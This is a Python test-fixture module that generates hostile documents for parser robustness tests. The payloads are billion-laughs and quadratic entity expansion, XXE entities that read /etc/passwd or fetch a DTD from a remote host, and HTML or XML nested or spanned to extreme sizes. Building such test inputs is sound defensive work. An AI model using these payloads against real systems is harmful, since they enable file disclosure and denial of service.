"""XML and HTML that grows when it is read, reaches for other files, or nests without end."""

from __future__ import annotations

from tests.hostile import WORDS, hostile
from tests.hostile.words import document_xml, odt, paragraph, with_parts

_LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11))
    + "]>"
)
_PASSWORDS = "<!DOCTYPE x [<!ENTITY a10 SYSTEM 'file:///etc/passwd'>]>"
_FETCHED = (
    "<!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd' [<!ENTITY % p SYSTEM 'http://192.0.2.1/p'>%p;]>"
)
_QUADRATIC = f"<!DOCTYPE x [<!ENTITY a10 '{'a' * 100_000}'>]>"
_PROLOGS = {
    "laughs": (_LAUGHS, "&a10;", "Entities that stand for each other: a thousand million laughs"),
    "passwords": (_PASSWORDS, "&a10;", "An entity that stands for /etc/passwd"),
    "fetched": (_FETCHED, "plain", "A document type to be fetched from another computer"),
    "quadratic": (_QUADRATIC, "&a10;" * 20_000, "One long entity, used 20,000 times"),
}


def _register() -> None:
    for name, (prolog, inside, does) in _PROLOGS.items():
        body = paragraph(WORDS) + paragraph(inside)

        def word(body: str = body, prolog: str = prolog) -> bytes:
            return with_parts(body=document_xml(body, prolog))

        def open_document(inside: str = inside, prolog: str = prolog) -> bytes:
            return odt(f"<text:p>{WORDS}</text:p><text:p>{inside}</text:p>", prolog)

        def page(inside: str = inside, prolog: str = prolog) -> bytes:
            return f"{prolog}<html><body><p>{WORDS}</p><p>{inside}</p></body></html>".encode()

        for ending, make in ((".docx", word), (".odt", open_document), (".html", page)):
            make.__doc__ = does
            hostile(name + ending, "either")(make)


_register()
DEEP = 100_000


@hostile("deep.docx")
def deep_docx() -> bytes:
    """Elements nested a hundred thousand deep."""
    return with_parts(body=document_xml("<w:sdt>" * DEEP + paragraph(WORDS) + "</w:sdt>" * DEEP))


@hostile("deep.odt")
def deep_odt() -> bytes:
    """Sections nested a hundred thousand deep."""
    return odt("<text:section>" * DEEP + f"<text:p>{WORDS}</text:p>" + "</text:section>" * DEEP)


@hostile("deep.html", "either")
def deep_html() -> bytes:
    """A hundred thousand boxes, each inside the one before."""
    return ("<html><body>" + "<div>" * DEEP + WORDS).encode()


@hostile("deep-words.html", "either")
def deep_words() -> bytes:
    """A hundred thousand spans, each inside the one before."""
    return ("<html><body><p>" + "<span>" * DEEP + WORDS).encode()


@hostile("deep-tables.html", "either")
def deep_tables() -> bytes:
    """Twenty thousand tables, each inside the one before."""
    return ("<html><body>" + "<table><tr><td>" * 20_000 + WORDS).encode()


@hostile("spans.html", "either", quick=False)
def spans() -> bytes:
    """Fifty thousand cells, each of which says it covers ten thousand others."""
    cell = "<td rowspan=100 colspan=100>a</td>"
    return f"<html><body><p>{WORDS}</p><table>{('<tr>' + cell * 50 + '</tr>') * 1_000}".encode()


@hostile("list.html", "either", quick=False)
def long_list() -> bytes:
    """A numbered list of two hundred thousand items."""
    return f"<html><body><p>{WORDS}</p><ol>{'<li>as needed' * 200_000}</ol>".encode()


@hostile("odd-encoding.html", "either")
def odd_encoding() -> bytes:
    """A page that says it is written in an encoding nobody knows."""
    return b'<html><head><meta charset="x-none"></head><body><p>' + WORDS.encode() + b"\xff\xfe\x80"
